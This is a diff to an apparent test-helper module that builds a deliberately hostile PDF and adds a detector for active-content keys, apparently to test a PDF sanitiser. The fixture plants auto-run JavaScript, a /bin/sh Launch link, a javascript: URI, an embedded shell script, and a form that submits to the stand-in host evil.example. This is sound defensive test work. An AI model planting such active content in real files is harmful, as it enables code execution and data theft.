@@ -213,3 +213,105 @@ def blank_repaired_pdf(path: Path) -> Path:
     cut = data.rfind(b"startxref")
     path.write_bytes(bytes(data[:cut]))  # and the trailer is gone: qpdf must reconstruct it
     return path
+
+
+def hostile_pdf(path: Path, pages: int = 2) -> Path:
+    """A text PDF carrying every kind of active content an attacker would plant.
+
+    Document: an OpenAction and a document-level script, /AA on the catalogue, an embedded
+    file, an XFA form. Page 1: page-open JavaScript (/AA), a link that launches /bin/sh, a
+    link to a web page (kept) whose /Next chain runs JavaScript, a javascript: URI, a file
+    attachment annotation. Page 2: a form field that submits the form to a web address."""
+    text_pdf(path, pages, title="HOSTILE")
+    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
+        js = lambda code: pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))  # noqa: E731
+        pdf.Root.OpenAction = pdf.make_indirect(js("app.alert('open')"))
+        pdf.Root.AA = pikepdf.Dictionary(WC=js("app.alert('close')"))
+        attached = pikepdf.AttachedFileSpec(pdf, b"#!/bin/sh\necho owned\n", filename="payload.sh")
+        pdf.attachments["payload.sh"] = attached
+        names = pdf.Root.Names
+        names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("doc"), js("this.x=1")]))
+        first = pdf.pages[0].obj
+        first.AA = pikepdf.Dictionary(O=js("app.alert('page open')"))
+        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh"))
+        web = pikepdf.Dictionary(
+            S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"), Next=js("app.alert('next')")
+        )
+        bad_uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)"))
+
+        def annot(subtype: str, action: pikepdf.Dictionary | None, **extra: object) -> pikepdf.Object:
+            d = pikepdf.Dictionary(
+                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[72, 72, 200, 100]
+            )
+            if action is not None:
+                d.A = action
+            for key, value in extra.items():
+                d[pikepdf.Name("/" + key)] = value
+            return pdf.make_indirect(d)
+
+        first.Annots = pdf.make_indirect(
+            pikepdf.Array(
+                [
+                    annot("/Link", launch),
+                    annot("/Link", web),
+                    annot("/Link", bad_uri),
+                    annot("/FileAttachment", None, FS=attached.obj, Contents=pikepdf.String("x")),
+                ]
+            )
+        )
+        if pages > 1:
+            submit = pikepdf.Dictionary(
+                S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/collect")
+            )
+            widget = annot("/Widget", submit, FT=pikepdf.Name.Btn, T=pikepdf.String("send"))
+            pdf.pages[1].obj.Annots = pdf.make_indirect(pikepdf.Array([widget]))
+            pdf.Root.AcroForm = pikepdf.Dictionary(
+                Fields=pikepdf.Array([widget]), XFA=pikepdf.String("<xdp/>")
+            )
+        pdf.save(path)
+    return path
+
+
+ACTIVE_KEYS = (
+    "/JS",
+    "/JavaScript",
+    "/Launch",
+    "/EmbeddedFile",
+    "/EmbeddedFiles",
+    "/SubmitForm",
+    "/AA",
+    "/OpenAction",
+    "/FileAttachment",
+    "/XFA",
+)
+
+
+def active_keys(path: Path) -> set[str]:
+    """Every name of ACTIVE_KEYS used anywhere in ``path``, as a key or as a value."""
+    found: set[str] = set()
+    seen: set[tuple[int, int]] = set()
+
+    def walk(obj: object, depth: int = 0) -> None:
+        if depth > 50:
+            return
+        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
+            if obj.objgen in seen:
+                return
+            seen.add(obj.objgen)
+        if isinstance(obj, pikepdf.Name):
+            if str(obj) in ACTIVE_KEYS:
+                found.add(str(obj))
+        elif isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
+            for key, value in obj.items():
+                if key in ACTIVE_KEYS:
+                    found.add(key)
+                walk(value, depth + 1)
+        elif isinstance(obj, pikepdf.Array):
+            for value in obj:
+                walk(value, depth + 1)
+
+    with pikepdf.open(path) as pdf:
+        walk(pdf.trailer)
+        for obj in pdf.objects:
+            walk(obj)
+    return found
